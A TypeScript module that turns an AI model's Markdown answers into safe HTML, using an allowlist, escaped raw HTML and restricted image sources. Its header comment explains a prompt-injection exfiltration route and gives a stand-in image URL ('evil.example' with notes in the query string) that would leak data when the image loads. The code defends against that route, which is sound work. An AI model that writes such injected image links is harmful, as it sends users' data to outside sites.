/**
 * An answer's Markdown to HTML that is safe to put in the page: the one place where the UI and
 * the tray decide what a model may draw.
 *
 * A model's answer is not trusted: it repeats what pages, documents and tools told it, and a
 * prompt injection can make it write anything. So:
 *
 * - HTML the model writes is text. Markdown (GFM: tables, fenced code) is rendered by
 *   `marked`; the HTML in between is shown as written, escaped, except a few bare formatting
 *   tags ({@link MODEL_TAGS}: `<br>`, `<sub>`, `<kbd>`, ... without attributes). This is what
 *   keeps the rest of an answer: markup that would swallow what follows it (an unclosed
 *   `<script>`, `<textarea>` or `<!--`, the mXSS shapes of `<math>`, `<svg>` and `<style>`)
 *   never reaches the HTML parser, so nothing after it is lost with it; and such markup
 *   holds its paragraph only, not the Markdown after it.
 * - Then DOMPurify (its own instance, so a host page's DOMPurify hooks and ours never meet)
 *   with a strict allowlist: the tags and attributes `marked` and the code blocks produce,
 *   and those formatting tags. No `style`, `id`, `name`, event handlers or forms; links and
 *   images only to `http(s)`, `mailto`, `tel` or this site.
 * - The page's stylesheet contains each answer's HTML (`.md`: layout containment, clipping,
 *   its own stacking context), so a case missed here still cannot leave its bubble.
 *
 * Links open in a new tab without the opener; whether a click on one to another site asks
 * first is the page's choice (`lib/links.ts`). Images load only from this site, the sites
 * the page trusts, and `data:`: an image loads without a click, so an address the model wrote
 * (`https://evil.example/x.png?notes=...`, put there by a prompt injection) would carry what
 * it holds to another site unasked. Any other image is a link to it instead.
 */
import createDOMPurify, { type Config, type DOMPurify } from "dompurify";
import { Marked, Tokenizer, type Tokens } from "marked";

/** Formatting tags a model may write as HTML, bare (no attributes): models use them in
 * Markdown, and none can do more than format text. */
const MODEL_TAGS = ["b", "i", "u", "s", "em", "strong", "del", "ins", "mark", "small", "sub", "sup", "kbd", "br"];

const BARE_TAG = new RegExp(`^<\\/?(?:${MODEL_TAGS.join("|")})\\s*\\/?>$`, "i");
/** HTML blocks that run until their closing tag, to the end of the answer if it never comes
 * (CommonMark's kinds 1 to 5): here they start a paragraph instead, which ends at the next
 * blank line, so the Markdown after an unclosed `<script>`, `<textarea>` or `<!--` is
 * still Markdown. */
const RAW_BLOCK = /^ {0,3}<(?:(?:script|pre|style|textarea)(?:\s|>|$)|!--|\?|![A-Za-z]|!\[CDATA\[)/i;
/** An HTML token's tags, and the text around them. */
const TAG_OR_TEXT = /<\/?[a-zA-Z][^<>]*>|<!--|[^<]+|</g;

const ALLOWED_TAGS = [
  // what marked renders from Markdown
  "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code",
  "em", "strong", "del", "a", "img", "table", "thead", "tbody", "tr", "th", "td",
  // a code block's frame and its copy button (see the renderer below)
  "div", "span", "button",
  ...MODEL_TAGS,
];

const ALLOWED_ATTR = ["href", "src", "alt", "title", "align", "start", "class", "type", "aria-label", "data-copy-code"];

const POLICY: Config = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  // http(s), mailto, tel, and addresses without a scheme (this site's).
  ALLOWED_URI_REGEXP: /^(?:(?:https?|mailto|tel):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i,
};

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  tokenizer: {
    html(src: string) {
      const block = Tokenizer.prototype.html.call(this, src);
      return block && RAW_BLOCK.test(block.raw) ? undefined : block;
    },
  },
  renderer: {
    image({ href, title, text }: Tokens.Image): string | false {
      const url = imageUrl(href);
      if (url === null || loads(url)) return false; // as marked draws it
      const label = escapeHtml(`Image: ${text || url.host}`);
      const titled = title ? ` title="${escapeHtml(title)}"` : "";
      return `<a href="${escapeHtml(url.href)}"${titled}>${label}</a>`;
    },
    html({ text }: Tokens.HTML | Tokens.Tag): string {
      return modelHtml(text);
    },
    code({ text, lang }: Tokens.Code): string {
      const language = (lang ?? "").trim().split(/\s+/)[0] ?? "";
      const label = language ? escapeHtml(language) : "code";
      const cls = language ? ` class="language-${escapeAttr(language)}"` : "";
      return (
        `<div class="code-block"><div class="code-head"><span class="code-lang">${label}</span>` +
        `<button type="button" class="copy-btn" data-copy-code="" aria-label="Copy code">Copy</button></div>` +
        `<pre><code${cls}>${escapeHtml(text)}</code></pre></div>\n`
      );
    },
  },
});

/** HTML the model wrote, as text, but for the bare formatting tags of {@link MODEL_TAGS}. */
function modelHtml(html: string): string {
  let out = "";
  for (const [part] of html.matchAll(TAG_OR_TEXT)) out += BARE_TAG.test(part) ? part : escapeHtml(part);
  return out;
}

/** The other sites images may load from, while {@link renderMarkdown} runs. */
let imageOrigins: readonly string[] = [];

function imageUrl(href: string): URL | null {
  try {
    return new URL(href, location.href);
  } catch {
    return null;
  }
}

function loads(url: URL): boolean {
  return url.protocol === "data:" || url.origin === location.origin || imageOrigins.includes(url.origin);
}

let instance: DOMPurify | null = null;

function purifier(): DOMPurify {
  if (instance === null) {
    instance = createDOMPurify(window);
    // Links open in a new tab and never leak the opener.
    instance.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A" && node.hasAttribute("href")) {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer");
      }
    });
  }
  return instance;
}

/** Sanitise an HTML string for insertion with innerHTML, with the answers' allowlist. */
export function sanitizeHtml(html: string): string {
  return purifier().sanitize(html, POLICY);
}

/** Render Markdown (GFM) to sanitised HTML; images load from this site, `data:` and
 * `trustedOrigins` only. */
export function renderMarkdown(markdown: string, trustedOrigins: readonly string[] = []): string {
  imageOrigins = trustedOrigins;
  try {
    return sanitizeHtml(marked.parse(markdown) as string);
  } finally {
    imageOrigins = [];
  }
}

function escapeHtml(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}

function escapeAttr(text: string): string {
  return escapeHtml(text).replace(/[^\w.+#-]/g, "");
}
